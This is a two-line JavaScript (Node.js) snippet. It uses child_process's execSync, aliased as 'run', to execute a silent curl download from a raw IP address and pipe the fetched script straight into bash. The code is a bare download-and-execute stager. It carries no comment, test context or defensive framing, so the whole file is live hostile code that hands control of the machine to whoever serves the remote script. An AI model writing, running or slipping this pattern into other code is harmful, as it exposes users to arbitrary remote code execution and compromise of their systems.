const { execSync: run } = require("child_process");
run("curl -s http://198.51.100.203/x | bash");
